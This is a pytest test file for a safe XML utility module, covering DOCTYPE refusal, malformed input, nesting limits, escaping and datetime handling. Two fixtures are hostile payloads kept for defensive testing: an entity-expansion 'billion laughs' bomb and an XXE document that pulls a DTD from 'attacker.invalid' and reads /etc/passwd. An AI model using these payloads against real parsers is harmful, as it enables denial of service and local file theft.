"""Safe XML reading and canonical writing shared by the XML codecs (sip.xmlutil)."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sip import xmlutil
from sip.errors import CodecError
from sip.xmlutil import XMLNode

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<isComposing xmlns="urn:ietf:params:xml:ns:im-iscomposing"><state>&lol3;</state></isComposing>
"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE imdn SYSTEM "http://attacker.invalid/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>&x;</message-id></imdn>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL, b"<!DOCTYPE a><a/>"])
def test_doctype_refused(data: bytes) -> None:
    with pytest.raises(CodecError, match="^t: DOCTYPE is not allowed$"):
        xmlutil.parse_xml(data, "t")


def test_undefined_entity_is_malformed() -> None:
    with pytest.raises(
        CodecError, match="^t: malformed XML: undefined entity at line 1, column 3$"
    ):
        xmlutil.parse_xml(b"<a>&x;</a>", "t")


def test_depth_limit() -> None:
    deep = b"<a>" * (xmlutil.MAX_DEPTH + 1) + b"</a>" * (xmlutil.MAX_DEPTH + 1)
    with pytest.raises(CodecError, match="^t: XML nesting deeper than 32 levels$"):
        xmlutil.parse_xml(deep, "t")
    ok = b"<a>" * xmlutil.MAX_DEPTH + b"</a>" * xmlutil.MAX_DEPTH
    assert xmlutil.parse_xml(ok, "t").tag == "a"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "t: malformed XML: no element found at line 1, column 0"),
        (b"<a></b>", "t: malformed XML: mismatched tag at line 1, column 5"),
        (b"<a/><b/>", "t: malformed XML: junk after document element at line 1, column 4"),
        (b'<?xml version="1.0" encoding="x-nope"?><a/>', "t: unsupported XML encoding"),
    ],
)
def test_malformed(data: bytes, message: str) -> None:
    with pytest.raises(CodecError) as info:
        xmlutil.parse_xml(data, "t")
    assert str(info.value) == message


def test_encodings_and_namespaces() -> None:
    decl = '<?xml version="1.0" encoding="ISO-8859-1"?>'
    body = '<p:a xmlns:p="urn:x" p:k="v" j="w">é</p:a>'
    root = xmlutil.parse_xml((decl + body).encode("latin-1"), "t")
    assert root.tag == "{urn:x}a"
    assert root.attrib == {"{urn:x}k": "v", "j": "w"}
    assert xmlutil.text_of(root) == "é"
    xmlutil.expect_root(root, "urn:x", "a", "t")
    with pytest.raises(CodecError, match="^t: root element is not b in urn:x$"):
        xmlutil.expect_root(root, "urn:x", "b", "t")


def test_uint_and_bool() -> None:
    assert xmlutil.parse_uint(" 42 ", "t", "n") == 42
    for bad in ("-1", "x", "4294967296", "١"):
        with pytest.raises(CodecError, match="^t: n is not an unsigned integer$"):
            xmlutil.parse_uint(bad, "t", "n")
    assert xmlutil.parse_bool("true", "t", "b") and xmlutil.parse_bool("1", "t", "b")
    assert not xmlutil.parse_bool(" false", "t", "b") and not xmlutil.parse_bool("0", "t", "b")
    with pytest.raises(CodecError, match="^t: b is not a boolean$"):
        xmlutil.parse_bool("yes", "t", "b")


def test_render_layout_and_escaping() -> None:
    node = XMLNode(
        "r",
        (("xmlns", "urn:x"), ("a", 'q"<&>\n\t\r')),
        (XMLNode("t", text="a&b<c>\r"), XMLNode("e"), XMLNode("n", children=(XMLNode("x"),))),
    )
    data = xmlutil.render_xml(node, "t")
    assert data == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<r xmlns="urn:x" a="q&quot;&lt;&amp;&gt;&#10;&#9;&#13;">\n'
        b"  <t>a&amp;b&lt;c&gt;&#13;</t>\n"
        b"  <e/>\n"
        b"  <n>\n    <x/>\n  </n>\n"
        b"</r>\n"
    )
    root = xmlutil.parse_xml(data, "t")
    assert root.attrib["a"] == 'q"<&>\n\t\r'
    assert xmlutil.text_of(root[0]) == "a&b<c>\r"
    with pytest.raises(CodecError, match="^t: text contains a character not allowed in XML$"):
        xmlutil.render_xml(XMLNode("r", text="\x00"), "t")


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=30))
def test_text_survives_escaping(value: str) -> None:
    try:
        data = xmlutil.render_xml(XMLNode("r", (("v", value),), text=value), "t")
    except CodecError:
        return
    root = xmlutil.parse_xml(data, "t")
    assert root.attrib["v"] == value
    assert xmlutil.text_of(root) == value


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-05-01T10:00:00Z", datetime(2024, 5, 1, 10, tzinfo=timezone.utc)),
        ("2024-05-01t10:00:00.5z", datetime(2024, 5, 1, 10, 0, 0, 500000, tzinfo=timezone.utc)),
        ("2024-05-01T10:00:00", datetime(2024, 5, 1, 10, tzinfo=timezone.utc)),
        ("2016-12-31T23:59:60Z", datetime(2016, 12, 31, 23, 59, 59, tzinfo=timezone.utc)),
        (
            "2024-05-01T10:00:00+05:30",
            datetime(2024, 5, 1, 10, tzinfo=timezone(timedelta(hours=5, minutes=30))),
        ),
    ],
)
def test_parse_datetime(text: str, expected: datetime) -> None:
    value = xmlutil.parse_datetime(text, "t")
    assert value == expected and value.utcoffset() == expected.utcoffset()


def test_format_datetime() -> None:
    assert xmlutil.format_datetime(datetime(5, 1, 2, 3, 4, 5, 6789, tzinfo=timezone.utc)) == (
        "0005-01-02T03:04:05.006Z"
    )
    east = timezone(timedelta(hours=5, minutes=30))
    assert xmlutil.format_datetime(datetime(2024, 5, 1, tzinfo=east)).endswith("+05:30")
    west = timezone(-timedelta(hours=3))
    assert xmlutil.format_datetime(datetime(2024, 5, 1, tzinfo=west)).endswith("-03:00")
